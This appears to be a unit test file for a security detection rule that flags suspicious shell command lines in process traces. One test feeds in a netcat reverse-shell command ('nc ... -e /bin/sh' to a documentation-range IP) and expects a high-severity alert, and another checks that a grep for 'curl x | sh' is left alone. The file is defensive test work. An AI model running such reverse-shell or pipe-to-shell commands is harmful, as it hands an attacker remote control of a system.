import { expect } from 'chai';
import { shellCommandLine } from '../../../src/findings/rules/shell-command-line.ts';
import { processItems, seenBy, web } from '../traces-lab.ts';

describe('rule shell-command-line', () => {
  it('finds a shell over netcat', () => {
    expect(
      seenBy(
        shellCommandLine,
        processItems(11, { in: web, args: ['nc', '198.51.100.9', '443', '-e', '/bin/sh'] }),
      ),
    ).to.deep.equal(['high: it has a shell over netcat']);
  });
  it('leaves who looks for the words alone, and files below /tmp', () => {
    expect(
      seenBy(
        shellCommandLine,
        processItems(11, { exe: '/usr/bin/grep', args: ['grep', '-r', 'curl x | sh'] }),
        processItems(12, { in: web, args: ['app', '/tmp/x'] }),
      ),
    ).to.deep.equal([]);
  });
});
